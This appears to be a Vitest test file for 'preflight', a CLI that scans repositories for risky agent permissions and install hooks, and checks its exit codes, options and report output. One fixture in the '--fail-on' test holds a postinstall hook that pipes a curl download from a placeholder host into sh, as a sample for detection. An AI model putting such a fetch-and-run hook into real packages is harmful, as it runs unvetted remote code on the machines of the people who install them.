import { lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { inTemporaryFolder, parseFixture } from "../fixture.ts";
import { emptyFolder, preflight } from "./preflight.ts";

const LIBRARY = parseFixture(`A plain benign library.
-- package.json --
{ "name": "sample", "version": "1.0.0", "scripts": { "test": "vitest run" } }
-- src/index.js --
export const one = 1;
-- .git (init) --
`);

/** Mistakes end in one clean line, never in a stack trace. */
function expectOneCleanLine(err: string) {
  expect(err.trimEnd().split("\n")).toHaveLength(1);
  expect(err).not.toMatch(/\n\s+at /);
}

describe("paths that cannot be scanned", () => {
  it("a missing path: 2", () => {
    const { code, out, err } = preflight(["/nowhere/at/all"]);
    expect({ code, out }).toEqual({ code: 2, out: "" });
    expectOneCleanLine(err);
  });

  it("a file: 2", () => {
    const file = join(emptyFolder(), "a.txt");
    writeFileSync(file, "x");
    const { code, err } = preflight([file]);
    expect(code).toBe(2);
    expectOneCleanLine(err);
  });

  it("an empty folder: 3, for nothing was read", () => {
    const { code, out } = preflight([emptyFolder()]);
    expect(code).toBe(3);
    expect(out).toContain("empty");
  });

  it("a folder without git: a report that says so", () => {
    const folder = emptyFolder();
    writeFileSync(join(folder, "index.js"), "1;\n");
    const { code, out } = preflight([folder]);
    expect(code).toBe(0);
    expect(out).toContain("not under git");
  });
});

describe("options", () => {
  it("that are wrong end in one line and 2", () => {
    for (const args of [
      ["--state", "mine"],
      ["--agent", "skynet"],
      ["--format", "pdf"],
      ["--require", "yolo"],
      ["--nonsense"],
      ["--output", "json"],
    ]) {
      const { code, out, err } = preflight([emptyFolder(), ...args]);
      expect({ args, code, out }).toEqual({ args, code: 2, out: "" });
      expectOneCleanLine(err);
    }
  });

  it("that want something which is not there are refused in one line", () => {
    for (const args of [
      ["--base", "no-such-commit"],
      ["--head", "main"],
      ["--policy", "no-such-file.yml"],
      ["--baseline", "no-such-file.json"],
      ["--policy", "p.yml", "--today", "tomorrow"],
    ]) {
      const { code, err, out } = preflight([emptyFolder(), ...args]);
      expect({ args, code, out }).toEqual({ args, code: 2, out: "" });
      expect(err).toMatch(/^preflight: .+\n$/u);
    }
    expect(preflight(["harden", emptyFolder()])).toMatchObject({ code: 2, out: "" });
  });

  it("a number of threads that is none is refused, and any other changes nothing", () => {
    const folder = emptyFolder();
    writeFileSync(join(folder, "a.txt"), "text\n");
    for (const jobs of ["0", "two", "-1", "1000"]) expect(preflight([folder, "--jobs", jobs])).toMatchObject({ code: 2, out: "" });
    const [one, three] = ["1", "3"].map((jobs) => preflight([folder, "--jobs", jobs, "--format", "json"]));
    expect(one?.out).toContain("schemaVersion");
    expect(three).toEqual(one);
  });

  it("--version and --help answer with 0", () => {
    expect(preflight(["--version"])).toMatchObject({ code: 0, out: `${JSON.parse(readFileSync("package.json", "utf8")).version}\n` });
    expect(preflight(["--help"]).out).toContain("scan");
  });
});

describe("the gate", () => {
  it("--require compares with the posture", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      expect(preflight([folder, "--require", "read-only"]).code).toBe(0);
      expect(preflight([folder, "--require", "workspace-write"]).code).toBe(1);
      expect(preflight([folder, "--require", "workspace-write", "--state", "internal"]).code).toBe(0);
    }));

  it("--fail-on compares with the findings", () =>
    inTemporaryFolder(
      parseFixture(`A hook that fetches and runs.
-- package.json --
{ "name": "sample", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://example.invalid/x.sh | sh" } }
-- .git (init) --
`),
      (folder) => {
        expect(preflight([folder]).code).toBe(1);
        expect(preflight([folder, "--fail-on", "never"]).code).toBe(0);
      },
    ));
});

describe("outputs", () => {
  it("--output writes a whole report outside the tree, and nothing else", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      const target = emptyFolder();
      const file = join(target, "report.json");
      expect(preflight([folder, "--quiet", "--output", `json=${file}`]).code).toBe(0);
      expect(JSON.parse(readFileSync(file, "utf8")).schemaVersion).toBe(1);
      expect(readdirSync(target)).toEqual(["report.json"]);
    }));

  it("follow a link to where it leads, and leave what is no file as it is", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      const target = emptyFolder();
      writeFileSync(join(target, "real.json"), "");
      symlinkSync(join(target, "real.json"), join(target, "link.json"));
      symlinkSync("/dev/null", join(target, "nothing"));
      expect(preflight([folder, "--quiet", "--output", `json=${join(target, "link.json")}`]).code).toBe(0);
      expect(JSON.parse(readFileSync(join(target, "real.json"), "utf8")).schemaVersion).toBe(1);
      expect(preflight([folder, "--quiet", "--output", `json=${join(target, "nothing")}`]).code).toBe(0);
      expect(lstatSync("/dev/null").isCharacterDevice()).toBe(true);
    }));

  it("never into the scanned tree, not through a link either", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      const { code, err } = preflight([".", "--output", "json=report.json"], { cwd: folder });
      expect(code).toBe(2);
      expectOneCleanLine(err);
      const link = join(emptyFolder(), "link");
      symlinkSync(folder, link);
      expect(preflight([folder, "--output", `json=${join(link, "report.json")}`]).code).toBe(2);
      expect(readdirSync(folder).sort()).toEqual([".git", "package.json", "src"]);
    }));

  it("have no colours in a pipe, and no machine path", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      for (const format of ["terminal", "json", "markdown"]) {
        const { out } = preflight([folder, "--format", format]);
        expect(out).not.toContain("\u001b");
        expect(out).not.toContain(folder);
      }
    }));

  it("warn when a package runner was started inside the repository", () =>
    inTemporaryFolder(LIBRARY, (folder) => {
      mkdirSync(join(folder, "lib"));
      expect(preflight(["."], { cwd: folder, env: { npm_command: "exec" } }).err).toContain("another folder");
      expect(preflight([folder], { env: { npm_command: "exec" } }).err).toBe("");
    }));
});
